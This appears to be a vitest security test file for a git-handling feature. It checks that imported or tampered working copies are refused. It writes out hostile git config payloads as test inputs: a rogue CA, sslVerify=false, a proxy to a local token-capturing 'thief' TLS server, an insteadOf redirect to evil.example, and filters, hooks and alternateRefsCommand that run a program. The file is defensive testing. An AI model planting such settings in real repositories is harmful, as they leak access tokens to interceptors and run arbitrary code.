import { execFileSync } from 'node:child_process';
import { appendFile, cp, mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer as createTlsServer } from 'node:https';
import { connect, createServer, type AddressInfo, type Server } from 'node:net';
import { join } from 'node:path';

import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';

import type { Clone } from '../preload/model/git.ts';
import { createCertificates } from '../sandbox/certificates.ts';
import { startSandbox, type Sandbox } from '../sandbox/sandbox.ts';
import { createGitWorld, type GitWorld } from './git-world.ts';

let sandbox: Sandbox;
let world: GitWorld;
let good: Clone;
let thief: Thief;
let ran: string;
let program: string;
beforeAll(async () => {
  sandbox = await startSandbox();
  const { accessToken } = await sandbox.grant('ada');
  const password = async () => accessToken;
  world = await createGitWorld([{ login: 'ada', instance: sandbox.url, ca: sandbox.ca, password }]);
  good = await world.cloned('analytics/jaffle-shop');
  thief = await startThief(world.folder);
  ran = join(world.folder, 'ran');
  program = join(world.folder, 'program');
  await writeFile(program, `#!/bin/sh\necho "$@" >> '${ran}'\ncat\n`, { mode: 0o755 });
}, 60_000);
afterAll(async () => {
  await thief.close();
  await world.close();
  await sandbox.close();
});

let folder: string;
let count = 0;
beforeEach(async () => {
  count += 1;
  folder = join(world.folder, `packed-${count}`);
  await cp(good.folder, folder, { recursive: true });
});
afterEach(async () => {
  await rm(ran, { force: true });
  thief.heard.length = 0;
});

describe('a working copy that somebody else packed', () => {
  test.each([
    [
      'a CA file for one address',
      () => `${viaThief()}[http "${sandbox.url}/"]\nsslCAInfo = ${thief.ca}\n`,
    ],
    ['a CA file', () => `${viaThief()}[http]\nsslCAInfo = ${thief.ca}\n`],
    ['a folder of CAs', () => `${viaThief()}[http]\nsslCAPath = ${thief.caFolder}\n`],
    ['no check of certificates', () => `${viaThief()}[http "${sandbox.url}"]\nsslVerify = false\n`],
    ['redirects, as a name without a value', () => `[http "${sandbox.url}"]\nfollowRedirects\n`],
    ['a proxy for its remote', () => `[remote "origin"]\nproxy = ${thief.proxy}\n`],
    [
      'another host for the same address',
      () => `[url "https://evil.example/"]\ninsteadOf = ${sandbox.url}/\n`,
    ],
    ['a program that lists borrowed refs', () => `[core]\nalternateRefsCommand = ${program}\n`],
    ['a hook as a setting', () => `[hook "x"]\nevent = pre-push\ncommand = ${program}\n`],
    ['a filter', () => `[filter "x"]\nclean = ${program}\n`],
    ['a filter called lfs', () => `[filter "lfs"]\nprocess = ${program}\n`],
    ['settings among its versioned files', () => '[include]\npath = ../settings\n'],
  ])('that has %s is not taken over, and nothing is asked', async (_, settings) => {
    await appendFile(join(folder, '.git', 'config'), settings());
    await attack(folder);
    await expect(world.git['git.adopt']({ folder })).rejects.toMatchObject({
      code: 'git.unsafe-settings',
    });
    expect(await nothingHappened()).toBe(true);
  });

  test('cannot hide its settings in the file for one worktree', async () => {
    await appendFile(join(folder, '.git', 'config'), '[extensions]\nworktreeConfig = true\n');
    const hidden = `${viaThief()}[http "${sandbox.url}"]\nsslVerify = false\n`;
    await writeFile(join(folder, '.git', 'config.worktree'), hidden);
    await expect(world.git['git.adopt']({ folder })).rejects.toMatchObject({
      code: 'git.unsafe-settings',
    });
  });

  test('cannot let a submodule run its own filter while it is looked at', async () => {
    await packSubmodule(folder);
    const { id } = await world.git['git.adopt']({ folder });
    await world.git['git.status']({ clone: id });
    expect(await nothingHappened()).toBe(true);
    await world.git['git.forget']({ clone: id });
  });

  test('is welcome with what honest people have', async () => {
    await appendFile(
      join(folder, '.git', 'config'),
      '[http]\npostBuffer = 1048576\n[user]\nname = Ada\n[core]\nhooksPath = .husky\n' +
        '[filter "lfs"]\nclean = git-lfs clean -- %f\nsmudge = git-lfs smudge -- %f\n' +
        'process = git-lfs filter-process\nrequired = true\n',
    );
    const { id } = await world.git['git.adopt']({ folder });
    expect(await world.ended(await world.git['git.fetch']({ clone: id }))).toMatchObject({
      status: 'done',
    });
    await world.git['git.forget']({ clone: id });
  });
});

describe('a clone of ours whose settings were changed', () => {
  test.each([
    ['in .git/config', 'config', ''],
    ['in the file for one worktree', 'config.worktree', '[extensions]\nworktreeConfig = true\n'],
  ])('%s sends no token to somebody in between', async (_, file, before) => {
    const { id } = await world.git['git.adopt']({ folder });
    await appendFile(join(folder, '.git', 'config'), before);
    const settings = `${viaThief()}[http "${sandbox.url}/"]\nsslCAInfo = ${thief.ca}\n`;
    await appendFile(join(folder, '.git', file), settings);
    await attack(folder);
    for (const call of ['git.fetch', 'git.push'] as const) {
      expect(await world.ended(await world.git[call]({ clone: id }))).toMatchObject({
        failure: { code: 'git.unsafe-settings' },
      });
    }
    expect(thief.heard).toEqual([]);
    await world.git['git.forget']({ clone: id });
  });

  test('keeps the filter its owner installed, as far from the credential as ever', async () => {
    const { id } = await world.git['git.adopt']({ folder });
    await appendFile(join(folder, '.git', 'config'), `[filter "x"]\nclean = ${program}\n`);
    expect(await world.ended(await world.git['git.fetch']({ clone: id }))).toMatchObject({
      status: 'done',
    });
    await world.git['git.forget']({ clone: id });
  });
});

const viaThief = () => `[http]\nproxy = ${thief.proxy}\n`;

async function nothingHappened(): Promise<boolean> {
  const output = await readFile(ran, 'utf8').catch(() => '');
  return output === '' && thief.heard.length === 0;
}

/** What makes the settings above bite: borrowed objects, files with attributes, a commit to push. */
async function attack(top: string): Promise<void> {
  await mkdir(join(top, '.git', 'info'), { recursive: true });
  await writeFile(join(top, '.git', 'info', 'attributes'), '*.md filter=x\n');
  const borrowed = join(good.folder, '.git', 'objects');
  await mkdir(join(top, '.git', 'objects', 'info'), { recursive: true });
  await writeFile(join(top, '.git', 'objects', 'info', 'alternates'), `${borrowed}\n`);
  await appendFile(join(top, 'README.md'), 'more\n');
  git(top, 'switch', '--quiet', '--create', `packed-${count}`);
}

async function packSubmodule(top: string): Promise<void> {
  const inner = join(top, 'inner');
  git(top, 'init', '--quiet', inner);
  await writeFile(join(inner, 'a.md'), 'a\n');
  await writeFile(join(inner, '.gitattributes'), '*.md filter=x\n');
  git(inner, 'add', '.');
  git(inner, 'commit', '--quiet', '--message=a');
  git(top, 'submodule', '--quiet', 'add', './inner');
  git(top, 'commit', '--quiet', '--message=inner');
  // Of the same size, so that git has to look inside.
  await writeFile(join(inner, 'a.md'), 'b\n');
  await appendFile(join(inner, '.git', 'config'), `[filter "x"]\nclean = ${program}\n`);
}

function git(cwd: string, ...args: readonly string[]): string {
  const who = ['-c', 'user.name=x', '-c', 'user.email=x@example.test'];
  const env = { PATH: process.env['PATH'], GIT_CONFIG_NOSYSTEM: '1', HOME: world.folder };
  return execFileSync('git', [...who, ...args], { cwd, env, encoding: 'utf8' });
}

/** A proxy that answers every host itself, with a certificate of its own authority. */
interface Thief {
  readonly proxy: string;
  readonly ca: string;
  readonly caFolder: string;
  /** The Authorization header of each request that got through TLS; empty without one. */
  readonly heard: string[];
  close(): Promise<void>;
}

async function startThief(top: string): Promise<Thief> {
  const { ca, certificate, key } = await createCertificates('Thief');
  const heard: string[] = [];
  const host = createTlsServer({ key, cert: certificate }, (request, response) => {
    heard.push(request.headers.authorization ?? '');
    response.writeHead(401, { 'www-authenticate': 'Basic realm="x"' }).end();
  });
  await listen(host);
  const proxy = createServer((socket) => {
    socket.on('error', () => undefined);
    socket.once('data', () => {
      const inside = connect((host.address() as AddressInfo).port, '127.0.0.1');
      inside.on('error', () => socket.destroy());
      socket.write('HTTP/1.1 200 OK\r\n\r\n');
      socket.pipe(inside).pipe(socket);
    });
  });
  await listen(proxy);
  const caFolder = join(top, 'authorities');
  const file = join(caFolder, 'thief.pem');
  await mkdir(caFolder);
  await writeFile(file, ca);
  return {
    proxy: `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`,
    ca: file,
    caFolder,
    heard,
    async close() {
      host.closeAllConnections();
      await Promise.all([host, proxy].map((one) => new Promise((done) => one.close(done))));
    },
  };
}

function listen(server: Server): Promise<void> {
  return new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
}
